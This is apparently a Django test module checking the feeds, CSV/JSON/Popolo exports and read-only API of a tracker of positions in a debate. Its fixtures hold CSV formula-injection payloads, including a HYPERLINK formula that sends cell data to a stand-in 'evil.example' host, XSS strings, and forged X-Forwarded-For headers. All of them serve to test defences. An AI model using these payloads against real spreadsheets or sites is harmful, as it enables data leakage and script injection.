"""Feeds, exports, the Popolo export and the read-only API."""

import csv
import datetime
import io
import json
from collections import Counter

import feedparser
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from jsonschema import Draft3Validator
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT3

from . import factories as f
from .conftest import SHARED, require_service

DAY = datetime.date(2025, 10, 9)


@pytest.fixture
def world(db):
    debate = f.DebateFactory(slug="airspace", title="Airspace")
    estonia = f.CountryFactory(name="Estonia", slug="estonia", country="EE")
    drones = f.ProposalFactory(debate=debate, slug="drones", title="Arm drones", rung=2)
    f.PositionFactory(debate=debate, actor=estonia, stance=-1, stated_on=DAY, summary="EARLY")
    later = f.PositionFactory(
        debate=debate, actor=estonia, stance=1, stated_on=DAY + datetime.timedelta(days=5),
        summary="LATER",
    )  # fmt: skip
    f.PositionFactory(debate=debate, actor=estonia, proposal=drones, support="support", stance=2)
    f.PositionFactory(
        debate=debate,
        actor=estonia,
        stance=2,
        status="draft",
        published_at=None,
        summary="DRAFT-ONLY",
    )
    f.PositionFactory(
        debate=debate, actor=estonia, stance=0, status="retracted", retracted_at=timezone.now(),
        retraction_reason="Misquoted", summary="RETRACTED-ONE",
    )  # fmt: skip
    f.EvidenceFactory(
        position=later, attribution="anonymous_officials", source_count=4,
        source_affiliation="NATO officials", quote="=HYPERLINK(\"http://evil\")",
        cited_outlet=f.OutletFactory(name="Financial Times"),
    )  # fmt: skip
    hidden = f.DebateFactory(slug="hidden", status="draft")
    f.PositionFactory(debate=hidden, actor=estonia, summary="IN-DRAFT-DEBATE")
    return debate, estonia


@pytest.mark.parametrize("url", ["/debates/airspace/feed/", "/actors/estonia/feed/"])
def test_atom_feeds_parse_cleanly_and_hold_no_drafts(client, world, url, settings):
    settings.TRACKER_SITE_URL = "https://tracker.example"
    response = client.get(url)
    assert response["Content-Type"].startswith("application/atom+xml")
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    titles = [entry.title for entry in parsed.entries]
    text = response.content.decode()
    assert "DRAFT-ONLY" not in text and "IN-DRAFT-DEBATE" not in text
    assert any("moved from −1 to +1" in title for title in titles)
    assert any(title.startswith("Retracted: Estonia") for title in titles)
    # Each entry's id is an IRI (RFC 4287), the same in both feeds and for good.
    assert all(
        entry.id == f"tag:tracker.example,2025:position-{entry.link.split('-')[-1]}"
        for entry in parsed.entries
    )
    # Each entry opens the actor's record at that position, with its evidence:
    # every public position is there, superseded, retracted or on an option.
    record = client.get("/actors/estonia/").content.decode()
    for entry in parsed.entries:
        page, anchor = entry.link.split("#")
        assert page == "https://tracker.example/actors/estonia/"
        assert f'id="{anchor}"' in record


def test_a_draft_debate_has_no_feed(client, world):
    assert client.get("/debates/hidden/feed/").status_code == 404


# One shape per record: the API, the JSON exports and the CSV carry the same keys.
POSITION_KEYS = [
    "id", "actor", "actor_name", "actor_kind", "actor_country", "debate", "proposal",
    "proposal_title", "proposal_rung", "stance", "stance_label", "support", "summary",
    "stated_on", "status", "published_at", "retraction_reason", "retracted_at", "correction_note",
    "corrected_at", "evidence",
]  # fmt: skip
EVIDENCE_KEYS = [
    "id", "position", "attribution", "attribution_chain", "on_record", "quote", "speaker",
    "source_count", "source_affiliation", "cited_outlet", "outlet", "source_url", "source_title",
    "source_published_at",
]  # fmt: skip
CSV_HEADER = [
    "id", "actor", "actor_name", "actor_kind", "actor_country", "debate", "proposal",
    "proposal_title", "proposal_rung", "stance", "stance_label", "support", "summary",
    "stated_on", "status", "published_at", "retraction_reason", "retracted_at", "correction_note",
    "corrected_at", "evidence_id", "evidence_attribution", "evidence_attribution_chain",
    "evidence_on_record", "evidence_quote", "evidence_speaker", "evidence_source_count",
    "evidence_source_affiliation", "evidence_cited_outlet", "evidence_outlet",
    "evidence_source_url", "evidence_source_title", "evidence_source_published_at",
]  # fmt: skip


def test_the_debate_csv_has_a_row_per_evidence_and_defuses_formulas(client, world):
    response = client.get("/export/debates/airspace.csv")
    assert response["Content-Disposition"] == 'attachment; filename="airspace-positions.csv"'
    reader = csv.DictReader(io.StringIO(response.content.decode()))
    rows = list(reader)
    assert reader.fieldnames == CSV_HEADER
    summaries = [row["summary"] for row in rows]
    assert "DRAFT-ONLY" not in summaries and "IN-DRAFT-DEBATE" not in summaries
    assert {"EARLY", "LATER", "RETRACTED-ONE"} <= set(summaries)
    later = next(row for row in rows if row["summary"] == "LATER")
    retracted = next(row for row in rows if row["summary"] == "RETRACTED-ONE")
    assert retracted["retracted_at"].startswith(str(timezone.now().year))
    assert (retracted["retraction_reason"], later["retracted_at"]) == ("Misquoted", "")
    assert later["evidence_attribution_chain"].endswith(
        "citing Financial Times, citing four NATO officials"
    )
    assert later["evidence_quote"].startswith("'=HYPERLINK")
    assert later["evidence_source_count"] == "4"
    assert later["evidence_on_record"] == "False"
    assert later["stance"] == "1"
    assert (later["actor"], later["actor_name"], later["debate"]) == (
        "estonia",
        "Estonia",
        "airspace",
    )
    early = next(row for row in rows if row["summary"] == "EARLY")
    assert early["evidence_id"] == "" and early["evidence_quote"] == ""


@pytest.mark.parametrize("url", ["/export/debates/airspace.csv", "/export/positions.csv"])
def test_a_csv_for_excel_starts_with_a_byte_order_mark_and_holds_the_same_rows(client, world, url):
    plain = client.get(url).content
    for_excel = client.get(f"{url}?excel=1")
    assert not plain.startswith(b"\xef\xbb\xbf")  # scripts read the header as it is
    # Without the mark Excel reads UTF-8 as Latin-1: "Rząd" as "RzÄ…d".
    assert for_excel.content == b"\xef\xbb\xbf" + plain
    assert for_excel["Content-Type"] == "text/csv; charset=utf-8"
    assert for_excel["Content-Disposition"] == client.get(url)["Content-Disposition"]
    assert client.get(f"{url}?excel=1")["ETag"] != client.get(url)["ETag"]


def test_the_open_data_page_offers_each_csv_for_excel_too(client, world):
    page = client.get("/export/").content.decode()
    assert '<a href="/export/positions.csv?excel=1">for Excel</a>' in page
    assert '<a href="/export/debates/airspace.csv?excel=1">for Excel</a>' in page


def test_the_json_export_and_the_api_give_a_position_the_same_shape(client, world):
    exported = client.get("/export/debates/airspace.json").json()["positions"]
    later = next(p for p in exported if p["summary"] == "LATER")
    assert list(later) == POSITION_KEYS
    assert list(later["evidence"][0]) == EVIDENCE_KEYS
    assert client.get(f"/api/v1/positions/{later['id']}/").json() == later
    evidence = client.get(f"/api/v1/evidence/{later['evidence'][0]['id']}/").json()
    assert evidence == later["evidence"][0]
    drones = next(p for p in exported if p["proposal"] == "drones")
    assert (drones["proposal_title"], drones["proposal_rung"]) == ("Arm drones", 2)


def test_the_json_exports_nest_evidence_and_hold_no_drafts(client, world):
    debate = client.get("/export/debates/airspace.json").json()
    assert debate["debate"] == client.get("/api/v1/debates/airspace/").json()
    assert debate["debate"]["slug"] == "airspace"
    statuses = {p["status"] for p in debate["positions"]}
    assert statuses == {"published", "retracted"}
    later = next(p for p in debate["positions"] if p["summary"] == "LATER")
    assert later["evidence"][0]["source_count"] == 4
    everything = client.get("/export/positions.json").json()
    assert [d["slug"] for d in everything["debates"]] == ["airspace"]
    assert "IN-DRAFT-DEBATE" not in json.dumps(everything)
    assert client.get("/export/positions.xml").status_code == 404
    assert client.get("/export/debates/hidden.json").status_code == 404


def popolo_validator(name):
    folder = SHARED / "popolo" / "schemas"
    require_service("the Popolo schemas", folder.is_dir(), str(folder))
    registry = Registry()
    for path in folder.glob("*.json"):
        schema = json.loads(path.read_text())
        registry = registry.with_resource(
            schema["id"], Resource.from_contents(schema, default_specification=DRAFT3)
        )
    schema = json.loads((folder / f"{name}.json").read_text())
    return Draft3Validator(schema, registry=registry)


def test_the_popolo_export_validates_against_the_schemas(client, world, settings, tmp_path):
    settings.DEBUG = True
    settings.DEMO_LOGINS_FILE = tmp_path / "logins.json"
    call_command("seed_demo", stdout=io.StringIO())
    data = client.get("/export/popolo.json").json()
    checked = 0
    for kind, schema in (
        ("persons", "person"),
        ("organizations", "organization"),
        ("memberships", "membership"),
    ):
        validator = popolo_validator(schema)
        assert data[kind], kind
        for entry in data[kind]:
            errors = sorted(validator.iter_errors(entry), key=str)
            assert not errors, (entry, [e.message for e in errors])
            checked += 1
    people = {p["id"] for p in data["persons"]}
    assert {"donald-trump", "matthew-whitaker", "vladimir-putin"} <= people
    whitaker = next(m for m in data["memberships"] if m.get("person_id") == "matthew-whitaker")
    assert whitaker["role"] == "U.S. Ambassador to NATO"
    assert any(o["classification"] == "bloc" for o in data["organizations"])
    assert checked > 30


def test_the_validator_rejects_what_popolo_forbids():
    validator = popolo_validator("person")
    assert list(validator.iter_errors({"name": 7, "identifiers": [{"scheme": "x"}]}))


def test_the_api_lists_published_data_only(client, world):
    positions = client.get("/api/v1/positions/").json()
    summaries = {p["summary"] for p in positions["results"]}
    assert summaries == {"EARLY", "LATER", "RETRACTED-ONE", "Wants a firmer answer."}
    assert positions["count"] == 4
    debates = client.get("/api/v1/debates/").json()
    assert [d["slug"] for d in debates["results"]] == ["airspace"]
    assert client.get("/api/v1/debates/hidden/").status_code == 404
    assert client.get("/api/v1/debates/airspace/").json()["proposals"][0]["slug"] == "drones"
    evidence = client.get("/api/v1/evidence/").json()["results"]
    assert evidence[0]["attribution_chain"].endswith("citing four NATO officials")


def test_the_api_filters_positions(client, world):
    def summaries(query):
        return {p["summary"] for p in client.get(f"/api/v1/positions/?{query}").json()["results"]}

    assert summaries("stance=1") == {"LATER"}
    assert summaries("stance_min=1") == {"LATER", "Wants a firmer answer."}
    assert summaries("stated_before=2025-10-10&debate=airspace") >= {"EARLY"}
    assert "LATER" not in summaries("stated_before=2025-10-10")
    assert summaries("as_of=2025-10-10&debate=airspace&proposal=") >= {"EARLY"}
    as_of = client.get("/api/v1/positions/?as_of=2025-10-10&actor=estonia").json()["results"]
    assert {(p["proposal"], p["summary"]) for p in as_of} == {
        (None, "EARLY"),
        ("drones", "Wants a firmer answer."),
    }
    assert client.get("/api/v1/positions/?actor=nobody").status_code == 400
    assert client.get("/api/v1/positions/?as_of=yesterday").status_code == 400


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
@pytest.mark.parametrize(
    "url", ["/api/v1/positions/", "/api/v1/debates/airspace/", "/api/v1/actors/estonia/"]
)
def test_every_write_is_refused(client, world, method, url):
    response = getattr(client, method)(url, data={}, content_type="application/json")
    assert response.status_code == 405


def test_the_schema_describes_the_api(client, world):
    response = client.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    schema = json.loads(response.content)
    assert "/api/v1/positions/" in schema["paths"]
    parameters = {p["name"] for p in schema["paths"]["/api/v1/positions/"]["get"]["parameters"]}
    assert {"debate", "actor", "stance", "stated_after", "stated_before", "as_of"} <= parameters
    assert set(schema["paths"]["/api/v1/positions/"]) == {"get"}


def test_anonymous_reads_are_rate_limited(client, world, settings):
    from rest_framework.throttling import AnonRateThrottle

    AnonRateThrottle.THROTTLE_RATES = {"anon": "3/minute"}
    try:
        codes = [client.get("/api/v1/actors/").status_code for _ in range(5)]
    finally:
        AnonRateThrottle.THROTTLE_RATES = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]
    assert codes == [200, 200, 200, 429, 429]


def test_api_list_queries_do_not_grow_with_rows(client, db):
    def count(url):
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    def add(n):
        debate = f.DebateFactory()
        for _ in range(n):
            position = f.PositionFactory(debate=debate)
            f.EvidenceFactory(position=position)

    add(20)
    small = {
        url: count(url)
        for url in (
            "/api/v1/positions/",
            "/api/v1/evidence/",
            "/api/v1/debates/",
            "/api/v1/actors/",
        )
    }
    add(180)
    large = {url: count(url) for url in small}
    assert small == large


@pytest.mark.parametrize("url", ["/debates/airspace/feed/", "/actors/estonia/feed/"])
def test_feed_summaries_reach_readers_as_text_not_markup(client, world, url):
    debate, estonia = world
    f.PositionFactory(
        debate=debate, actor=estonia, stance=1, summary="<script>alert(1)</script> & more",
        status="retracted", retracted_at=timezone.now(),
        retraction_reason="<img src=x onerror=alert(2)>",
    )  # fmt: skip
    response = client.get(url)
    assert b"<script>" not in response.content
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    summaries = [entry.summary for entry in parsed.entries]
    assert "<script>alert(1)</script> & more (Retracted: <img src=x onerror=alert(2)>)" in summaries
    assert {entry.summary_detail.type for entry in parsed.entries} == {"text/plain"}


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("url", ["/export/debates/airspace.csv", "/export/positions.csv"])
def test_every_text_cell_of_the_csv_is_defused_and_numbers_stay_numbers(client, world, url):
    debate, _ = world
    actor = f.ActorFactory(name=FORMULA, slug="formula", country="")
    proposal = f.ProposalFactory(debate=debate, title="+SUM(1,1)", slug="plus", rung=3)
    f.PositionFactory(
        debate=debate, actor=actor, proposal=proposal, support="support", stance=-1,
        summary="-2+3", status="retracted", retracted_at=timezone.now(),
        retraction_reason="@SUM(A1:A9)",
    )  # fmt: skip
    f.PositionFactory(debate=debate, actor=actor, stance=-2, summary="\t=1+1")
    f.PositionFactory(debate=debate, actor=actor, stance=0, summary="\r=1+1")
    rows = [
        row
        for row in csv.DictReader(io.StringIO(client.get(url).content.decode()))
        if row["actor_name"] != "Estonia"
    ]
    assert len(rows) == 3
    retracted = next(row for row in rows if row["proposal"])
    assert retracted["actor_name"] == "'" + FORMULA
    assert retracted["proposal_title"] == "'+SUM(1,1)"
    assert retracted["summary"] == "'-2+3"
    assert retracted["retraction_reason"] == "'@SUM(A1:A9)"
    assert retracted["stance"] == "-1"
    assert retracted["proposal_rung"] == "3"
    assert sorted(row["summary"] for row in rows) == ["'\t=1+1", "'\r=1+1", "'-2+3"]
    assert sorted(row["stance"] for row in rows) == ["-1", "-2", "0"]


def api_codes(client, forwarded_for):
    from rest_framework.throttling import AnonRateThrottle

    AnonRateThrottle.THROTTLE_RATES = {"anon": "100/minute"}
    try:
        return Counter(
            client.get("/api/v1/actors/", HTTP_X_FORWARDED_FOR=forwarded_for(n)).status_code
            for n in range(400)
        )
    finally:
        AnonRateThrottle.THROTTLE_RATES = {"anon": "120/minute"}


def test_a_forged_forwarded_for_does_not_reset_the_rate_limit(client, world):
    assert api_codes(client, lambda n: f"198.51.100.{n % 250}") == {200: 100, 429: 300}


def test_behind_one_proxy_the_right_most_forwarded_address_is_the_client(client, world, settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}
    same_client = api_codes(client, lambda n: f"198.51.100.{n % 250}, 203.0.113.7")
    assert same_client == {200: 100, 429: 300}
    cache.clear()
    many_clients = api_codes(client, lambda n: f"203.0.113.7, 198.51.100.{n % 200}")
    assert many_clients == {200: 400}


def test_the_proxy_count_sets_both_lockouts_and_the_rate_limit(tmp_path):
    from .subprocesses import run_settings

    # nginx reached from 10.0.0.2 by a reader at 203.0.113.9 who claims 198.51.100.7.
    code = (
        "from django.test import RequestFactory; from axes.helpers import get_client_ip_address; "
        "from rest_framework.throttling import BaseThrottle; "
        "r = RequestFactory().get('/', HTTP_X_FORWARDED_FOR='198.51.100.7, 203.0.113.9',"
        " REMOTE_ADDR='10.0.0.2'); print(get_client_ip_address(r), BaseThrottle().get_ident(r))"
    )
    behind_one = run_settings(tmp_path, code=code, DEBUG="1", TRUSTED_PROXY_COUNT="1")
    assert behind_one.stdout.split() == ["203.0.113.9", "203.0.113.9"], behind_one.stderr
    direct = run_settings(tmp_path, code=code, DEBUG="1")
    assert direct.stdout.split() == ["10.0.0.2", "10.0.0.2"], direct.stderr


def test_an_option_listed_by_the_api_can_be_opened_by_its_id_or_found_by_its_slug(client, world):
    [listed] = client.get("/api/v1/proposals/?debate=airspace").json()["results"]
    assert listed["slug"] == "drones" and listed["debate"] == "airspace"
    opened = client.get(f"/api/v1/proposals/{listed['id']}/")
    assert opened.status_code == 200 and opened.json() == listed
    found = client.get("/api/v1/proposals/?debate=airspace&slug=drones").json()["results"]
    assert found == [listed]
    # A slug that names nothing published is a 400 naming it, as a debate's is.
    refused = client.get("/api/v1/proposals/?slug=nothing-called-so")
    assert refused.status_code == 400
    assert refused.json() == {"slug": ["No published proposal has the slug 'nothing-called-so'."]}
